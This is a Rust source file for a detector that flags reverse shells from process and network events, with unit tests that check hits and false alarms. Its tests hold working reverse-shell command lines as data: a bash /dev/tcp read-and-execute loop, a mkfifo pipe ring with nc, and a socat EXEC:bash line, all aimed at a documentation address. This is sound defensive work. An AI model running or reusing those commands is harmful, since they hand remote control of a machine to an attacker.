//! Sees a shell handed to another machine.
//!
//! - Sees: a shell or an interactive interpreter started with a connection out as its standard input; a process that put such a connection in
//!   place of its own input and then started a shell; a shell between pipes, one of them held by a program that called out.
//! - Misses: shells over a protocol of their own inside one program, which runs no shell.
//! - False alarms: services started by inetd and FastCGI have a connection *in* as input (see `shell-served`); scripts that wait for a port with
//!   `/dev/tcp`, and agents of build systems, whose shells are given a script.
//! - Source: bash(1) REDIRECTION; ATT&CK T1059.004, T1071.

use model::{Category, Confidence, Maturity, Severity, Stream, Weight, What};

use crate::{
    About, Behaviour, Judge, Match, indicators,
    programs::Program,
    story::{Flow, Story},
};

pub(super) const BEHAVIOUR: Behaviour = Behaviour {
    about: About {
        id: "reverse-shell-opened",
        title: "Hands a shell to another machine",
        category: Category::Backdoor,
        weight: Weight::Proof,
        severity: Severity::Critical,
        confidence: Confidence::High,
        maturity: Maturity::Stable,
        techniques: &["T1059.004", "T1071"],
    },
    judge: Judge::Run(judge),
};

fn judge(story: &Story<'_>) -> Vec<Match> {
    let mut found = Vec::new();
    for program in story.programs().filter(Program::is_interpreter) {
        let Some(life) = story.life_at(program.at) else { continue };
        if let Some(how) = socket_stdio(story, life, &program) {
            // Whose connection? One that it, or who started it, asked for, and none that was taken in.
            if story
                .line_of(life)
                .take(6)
                .any(|above| story.life(above).is_some_and(|of| of.accepts.iter().any(|at| *at < program.at)))
            {
                continue;
            }
            let caller = called_out(story, life, program.at);
            let told = |to: &str| Match::new(program.at, format!("{} {how} connected to {to}", shown(&program)));
            match caller {
                Some(at) => found.push(told(&remote(story, at)).with(indicator(story, at))),
                None if program.obeys_input() && program.is_shell() => found.push(told("somewhere").sign()),
                None => {}
            }
        } else if let Some((at, how)) = between_pipes(story, life, &program) {
            let told = Match::new(program.at, format!("{} {how} {}", shown(&program), remote(story, at)));
            found.push(told.with(indicator(story, at)));
        }
    }
    found.extend(turned_into_one(story));
    found.extend(answered(story));
    found
}

/// Who is asked `id` by our end of an unknown conversation, and answers as a shell does.
fn answered(story: &Story<'_>) -> Vec<Match> {
    let mut told = Vec::new();
    let mut found = Vec::new();
    for (at, event) in story.events() {
        let What::Message { flow, service, text } = &event.what else { continue };
        if service != "shell" || told.contains(flow) || !answers_id(text) {
            continue;
        }
        if let Some(flow_seen) = story.flow(*flow).filter(|flow| !flow.inbound) {
            told.push(*flow);
            let said =
                format!("answers {} like a shell: {}", flow_seen.remote, model::text::shortened(text.trim(), 80));
            found.push(Match::new(at, said).with([indicators::host(flow_seen)]).sure(Confidence::Certain));
        }
    }
    found
}

/// What `id` prints.
pub(super) fn answers_id(text: &str) -> bool {
    text.match_indices("uid=").any(|(at, _)| {
        let rest = text.get(at + 4..).unwrap_or("");
        rest.starts_with(|digit: char| digit.is_ascii_digit()) && rest.get(..120).unwrap_or(rest).contains("gid=")
    })
}

fn shown(program: &Program<'_>) -> String {
    model::text::shortened(&program.line(), 80).into_owned()
}

/// Whether what it reads its commands from is a connection.
fn socket_stdio(story: &Story<'_>, life: usize, program: &Program<'_>) -> Option<&'static str> {
    let shell = program.is_shell() && program.script().is_none();
    let interactive = program.obeys_input() || program.has(&["-i"]);
    let input = program.input == Some(Stream::Socket);
    let both = input && program.output == Some(Stream::Socket);
    if both && (shell || interactive) || input && shell && interactive {
        return Some("with its input and output");
    }
    let of = story.life(life)?;
    let redirected = |of: &crate::story::Life| {
        let onto: Vec<i32> = of
            .redirects
            .iter()
            .filter(|at| **at < program.at)
            .filter_map(|at| match story.what(*at) {
                Some(What::Redirect { onto, .. }) => Some(*onto),
                _ => None,
            })
            .collect();
        onto.contains(&0) && (onto.contains(&1) || onto.contains(&2))
    };
    if (shell || interactive) && program.input.is_none_or(|input| input == Stream::Socket) && redirected(of) {
        return Some("with its streams");
    }
    // `pty.spawn` after `dup2`: the shell has a terminal, its parent the connection.
    let parent = of.parent.and_then(|parent| story.life(parent))?;
    let terminal = matches!(program.input, Some(Stream::Terminal | Stream::File));
    if shell && interactive && terminal && redirected(parent) {
        return Some("on a terminal of a process");
    }
    // `socat TCP:… EXEC:sh` has a pair of sockets or a terminal in between.
    let netcat = story.line_of(life).skip(1).take(2).any(|above| {
        story.last_program(above).is_some_and(|program| program.is_netcat())
            && story.life(above).is_some_and(|of| !of.connects.is_empty())
    });
    (netcat && program.is_bare_shell()).then_some("behind a program")
}

/// The last connection out that the life, or one above it, asked for before `at`.
fn called_out(story: &Story<'_>, life: usize, at: usize) -> Option<usize> {
    story.line_of(life).take(5).find_map(|above| {
        let connects = &story.life(above)?.connects;
        connects
            .iter()
            .rev()
            .copied()
            .find(|connect| *connect < at && matches!(story.what(*connect), Some(What::Connect { .. })))
    })
}

/// `mkfifo f; sh -i < f | nc HOST PORT > f`, or a program that feeds a shell through pipes while it holds a connection.
fn between_pipes<'a>(story: &Story<'a>, life: usize, program: &Program<'a>) -> Option<(usize, &'static str)> {
    let piped = matches!(program.input, Some(Stream::Pipe | Stream::UnixSocket));
    if !piped || !program.is_bare_shell() {
        return None;
    }
    let parent = story.life(life)?.parent?;
    // Where the ring is closed: a pipe with a name. An interactive shell in a pipeline needs no more.
    let closed = program.has(&["-i"]) || story.first_fifo.is_some_and(|at| at < program.at);
    for sibling in story.neighbours(life, 6).filter(|_| closed) {
        let netcat = story.own_programs(sibling).any(|other| other.is_netcat() && other.input == Some(Stream::Pipe));
        if netcat && story.overlap(sibling, life) {
            let of = story.life(sibling)?;
            if let Some(&at) = of.connects.iter().find(|at| matches!(story.what(**at), Some(What::Connect { .. }))) {
                return Some((at, "in a ring of pipes with"));
            }
        }
    }
    // A program feeds it what comes in: no web, no TLS, and the other side spoke.
    if story.last_program(parent).is_some_and(|program| program.is_shell()) {
        return None;
    }
    let of = story.life(parent)?;
    if !of.accepts.is_empty() {
        return None;
    }
    let speaks = |flow: &&Flow<'_>| {
        !flow.inbound
            && flow.start < program.at
            && flow.requests.is_empty()
            && (flow.bytes_in > 0 || flow.end.is_none())
            && matches!(flow.service, "" | "sink" | "unknown" | "c2" | "generic")
            && flow.protocol == "tcp"
    };
    let flow = of.flows.iter().filter_map(|flow| story.flow(*flow)).find(speaks)?;
    Some((flow.start, "fed by a program that is connected to"))
}

/// A shell that connected by itself and put the connection in place of its own streams, without starting anything new;
/// what it then runs has the connection as output.
fn turned_into_one(story: &Story<'_>) -> Vec<Match> {
    let mut found = Vec::new();
    for (index, life) in story.lives().iter().enumerate() {
        let Some(&connect) = life.connects.first() else { continue };
        let is_shell = story.programs_of(index).any(|program| program.is_interpreter());
        if !is_shell || !life.accepts.is_empty() {
            continue;
        }
        // `wait-for-it` writes nothing or one line; what is answered comes from different programs.
        let mut tools: Vec<&str> = Vec::new();
        let mut shown_at = None;
        for child in life.children.iter().take(64) {
            for program in story.own_programs(*child) {
                let to_socket = program.output == Some(Stream::Socket)
                    && program.at > connect
                    && !program
                        .is(&["cat", "echo", "printf", "nc", "timeout", "sleep", "tr", "head", "curl", "openssl"]);
                if to_socket && !tools.contains(&program.tool()) {
                    tools.push(program.tool());
                    shown_at.get_or_insert(program.at);
                }
            }
        }
        if tools.len() >= 2
            && let Some(at) = shown_at
        {
            found.push(
                Match::new(at, format!("answers {} with the output of {}", remote(story, connect), tools.join(", ")))
                    .with(indicator(story, connect)),
            );
        }
    }
    found
}

fn remote(story: &Story<'_>, at: usize) -> String {
    match story.what(at) {
        Some(What::Connect { to, .. } | What::FlowStart { remote: to, .. }) => to.clone(),
        _ => "another machine".to_owned(),
    }
}

fn indicator(story: &Story<'_>, at: usize) -> Vec<model::Indicator> {
    let to = remote(story, at);
    let mut all = vec![indicators::of(model::IndicatorKind::Address, to.as_str())];
    all.extend(story.flows().find(|flow| flow.remote == to && flow.name.is_some()).map(indicators::host));
    all
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::{Run, found, hit, miss};

    #[test]
    fn a_shell_with_a_connection_as_input() {
        let mut run = Run::new();
        let bash = run.child(1);
        run.connect(bash, "203.0.113.7:4444");
        run.exec_with(bash, "/bin/bash", &["bash", "-i"], Some(Stream::Socket), Some(Stream::Socket));
        let seen = found(&BEHAVIOUR, run);
        assert_eq!(seen[0].indicators[0].value, "203.0.113.7:4444");
        assert_eq!(seen[0].weight, None);
    }

    #[test]
    fn a_program_that_redirects_and_starts_a_terminal() {
        let mut run = Run::of("/usr/bin/python3.11", &["python3", "/app/a.py"]);
        run.connect(1, "203.0.113.7:4444");
        for onto in 0..3 {
            run.push(1, What::Redirect { onto, stream: Stream::Socket });
        }
        run.spawn_with(1, "/bin/dash", &["/bin/sh"], Stream::Terminal, Stream::Terminal);
        hit(&BEHAVIOUR, run, Weight::Proof, "on a terminal of a process connected to 203.0.113.7:4444");
    }

    #[test]
    fn a_ring_of_pipes() {
        let mut run = Run::new();
        run.push(1, What::Make { path: "/tmp/f".to_owned(), what: "pipe".to_owned(), device: None, result: 0 });
        run.spawn_with(1, "/bin/cat", &["cat", "/tmp/f"], Stream::File, Stream::Pipe);
        run.spawn_with(1, "/bin/dash", &["/bin/sh", "-i"], Stream::Pipe, Stream::Pipe);
        let netcat = run.spawn_with(1, "/bin/nc.openbsd", &["nc", "203.0.113.7", "4444"], Stream::Pipe, Stream::File);
        run.flow(netcat, "203.0.113.7:4444", None, "sink", b"$ ");
        hit(&BEHAVIOUR, run, Weight::Proof, "in a ring of pipes with 203.0.113.7:4444");
    }

    #[test]
    fn a_shell_fed_through_pipes() {
        let mut run = Run::of("/opt/agent", &["agent"]);
        run.flow(1, "203.0.113.7:4444", None, "sink", b"uid=0");
        run.spawn_with(1, "/bin/dash", &["/bin/sh"], Stream::Pipe, Stream::Pipe);
        hit(&BEHAVIOUR, run, Weight::Proof, "fed by a program");
    }

    #[test]
    fn commands_that_answer_to_the_connection() {
        let mut run = Run::new();
        let bash = run.spawn(
            1,
            "/bin/bash",
            &["bash", "-c", "exec 5<>/dev/tcp/203.0.113.7/4444; while read l <&5; do $l >&5; done"],
        );
        run.connect(bash, "203.0.113.7:4444");
        run.spawn_with(bash, "/usr/bin/id", &["id"], Stream::File, Stream::Socket);
        run.spawn_with(bash, "/usr/bin/uname", &["uname", "-a"], Stream::File, Stream::Socket);
        hit(&BEHAVIOUR, run, Weight::Proof, "answers 203.0.113.7:4444 with the output of id, uname");
    }

    #[test]
    fn an_answer_to_id_on_the_wire_and_a_shell_behind_socat() {
        let mut run = Run::of("/opt/agent", &["agent"]);
        run.messages(
            1,
            "203.0.113.7:4444",
            "shell",
            &["/bin/sh: can't access tty", "uid=0(root) gid=0(root) groups=0(root)"],
        );
        hit(&BEHAVIOUR, run, Weight::Proof, "answers 203.0.113.7:4444 like a shell: uid=0(root)");
        let mut run = Run::of("/usr/bin/socat", &["socat", "TCP:203.0.113.7:4444", "EXEC:bash -li,pty"]);
        run.connect(1, "203.0.113.7:4444");
        run.spawn_with(1, "/bin/bash", &["bash", "-li"], Stream::UnixSocket, Stream::UnixSocket);
        hit(&BEHAVIOUR, run, Weight::Proof, "behind a program connected to");
    }

    #[test]
    fn a_metric_sent_beside_a_shell_with_a_pipe_is_none() {
        let mut run = Run::new();
        let shell = run.spawn_with(1, "/bin/dash", &["sh"], Stream::Pipe, Stream::Pipe);
        let netcat = run.spawn_with(1, "/bin/nc.openbsd", &["nc", "-w1", "statsd", "8125"], Stream::Pipe, Stream::Pipe);
        run.flow(netcat, "198.51.100.4:8125", Some("statsd.example"), "sink", b"deploy:1|c");
        run.exit(shell);
        run.messages(1, "198.51.100.5:7000", "shell", &["HELLO 1", "ERR unknown command"]);
        miss(&BEHAVIOUR, run);
    }

    #[test]
    fn waiting_for_a_port_is_none() {
        let mut run = Run::new();
        for _ in 0..5 {
            let bash = run.spawn(1, "/bin/bash", &["bash", "-c", "cat < /dev/null > /dev/tcp/db/5432"]);
            run.connect(bash, "10.0.0.3:5432");
            run.push(bash, What::Redirect { onto: 1, stream: Stream::Socket });
            run.spawn_with(bash, "/bin/cat", &["cat"], Stream::File, Stream::Socket);
        }
        miss(&BEHAVIOUR, run);
    }

    #[test]
    fn a_login_over_ssh_is_none() {
        let mut run = Run::of("/usr/sbin/sshd", &["sshd", "-D"]);
        run.accept(1, "203.0.113.7:50000");
        let session = run.spawn(1, "/usr/sbin/sshd", &["sshd", "-R"]);
        run.spawn_with(session, "/bin/bash", &["-bash"], Stream::Terminal, Stream::Terminal);
        run.spawn_with(session, "/bin/bash", &["bash", "-c", "scp -t /x"], Stream::UnixSocket, Stream::UnixSocket);
        run.spawn_with(session, "/bin/bash", &["-bash"], Stream::Pipe, Stream::Pipe);
        miss(&BEHAVIOUR, run);
    }

    #[test]
    fn scripts_of_a_build_agent_and_of_fastcgi_are_none() {
        let mut run = Run::of("/usr/bin/gitlab-runner", &["gitlab-runner", "run"]);
        run.http(1, "POST", "https://gitlab.example/api/v4/jobs/request", "json");
        run.spawn_with(1, "/bin/bash", &["bash"], Stream::Pipe, Stream::Pipe);
        run.spawn_with(1, "/usr/bin/php-cgi8.2", &["php-cgi"], Stream::Socket, Stream::File);
        miss(&BEHAVIOUR, run);
    }
}
